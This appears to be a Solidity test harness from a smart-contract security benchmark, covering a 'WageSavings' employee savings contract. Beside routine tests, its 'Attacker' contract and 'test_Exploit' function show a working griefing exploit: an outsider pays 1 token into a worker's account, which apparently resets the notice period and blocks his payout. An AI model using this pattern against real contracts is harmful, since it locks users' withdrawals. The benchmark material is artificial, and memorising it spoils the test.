// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./WageSavings.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-a3e5982a-1618-49fb-a1d0-0f769fd30b14

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usdz is ERC20 {
    constructor() ERC20("Usdz", "USDZ") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant BOSS = address(0xB05);
    uint256 private constant START = 1_700_000_000;

    Usdz private usdz;
    WageSavings private savings;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usdz = new Usdz();
        savings = new WageSavings(usdz, BOSS);
        usdz.transfer(BOSS, 10_000e18);
        usdz.transfer(ANA, 100e18);
        vm.startPrank(BOSS);
        savings.hire(ANA);
        savings.hire(BEN);
        usdz.approve(address(savings), 10_000e18);
        savings.payIn(ANA, 500e18);
        savings.payIn(BEN, 700e18);
        vm.stopPrank();
        vm.prank(BEN);
        savings.giveNotice(600e18);
        vm.warp(START + 14 days);
        mallory = new Attacker(savings);
        usdz.transfer(address(mallory), 1e18);
    }

    function test_Regular() public {
        benTakesSavings();
        require(usdz.balanceOf(BEN) == 600e18 && savings.saved(BEN) == 100e18, "paid out");
        vm.startPrank(ANA);
        usdz.approve(address(savings), 100e18);
        savings.payIn(ANA, 100e18);
        savings.giveNotice(50e18);
        savings.giveNotice(600e18);
        savings.cancelNotice();
        savings.handOver(BEN);
        vm.stopPrank();
        require(savings.saved(BEN) == 700e18 && savings.saved(ANA) == 0, "handed over");
        vm.startPrank(BOSS);
        savings.pause();
        savings.unpause();
        savings.payIn(BEN, 1e18);
        savings.dismiss(BEN);
        vm.stopPrank();
        vm.prank(BEN);
        savings.payAll();
        require(usdz.balanceOf(BEN) == 1_301e18 && savings.total() == 0, "left");
        vm.prank(BOSS);
        savings.transferOwnership(ANA);
        vm.prank(ANA);
        savings.renounceOwnership();
    }

    function benTakesSavings() public {
        vm.prank(BEN);
        savings.payOut();
    }

    function stranger() private view returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this));
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(stranger());
        savings.hire(ANA);
        vm.expectRevert(stranger());
        savings.dismiss(ANA);
        vm.expectRevert(stranger());
        savings.pause();
        vm.expectRevert(stranger());
        savings.unpause();
        vm.prank(BOSS);
        vm.expectRevert("no worker");
        savings.hire(address(0));
        vm.expectRevert("no token");
        new WageSavings(IERC20(address(0)), BOSS);
    }

    function test_RefusesPayIns() public {
        vm.startPrank(BOSS);
        vm.expectRevert(abi.encodeWithSelector(WageSavings.NotHired.selector, BOSS));
        savings.payIn(BOSS, 1e18);
        vm.expectRevert("too little");
        savings.payIn(ANA, 1e18 - 1);
        savings.payIn(ANA, 1e18);
        savings.pause();
        vm.expectRevert(abi.encodeWithSelector(Pausable.EnforcedPause.selector));
        savings.payIn(ANA, 1e18);
        vm.stopPrank();
    }

    function test_RefusesNotices() public {
        vm.startPrank(ANA);
        vm.expectRevert("nothing");
        savings.giveNotice(0);
        vm.expectRevert("not saved");
        savings.giveNotice(500e18 + 1);
        vm.expectRevert("no notice");
        savings.cancelNotice();
        vm.expectRevert("no notice");
        savings.payOut();
        savings.giveNotice(500e18);
        vm.warp(START + 28 days - 1);
        vm.expectRevert(abi.encodeWithSelector(WageSavings.NotReady.selector, START + 28 days));
        savings.payOut();
        vm.warp(START + 28 days);
        savings.payOut();
        vm.expectRevert("still hired");
        savings.payAll();
        vm.expectRevert(abi.encodeWithSelector(WageSavings.NotHired.selector, BOSS));
        savings.handOver(BOSS);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        vm.expectRevert(abi.encodeWithSelector(WageSavings.NotReady.selector, START + 28 days));
        benTakesSavings();
    }

    function target() public view returns (address) {
        return address(savings);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    WageSavings private savings;

    constructor(WageSavings s) {
        savings = s;
    }

    function run() external {
        IERC20 usdz = savings.usdz();
        usdz.approve(address(savings), 1e18);
        savings.payIn(address(0xBE9), 1e18);
    }
}
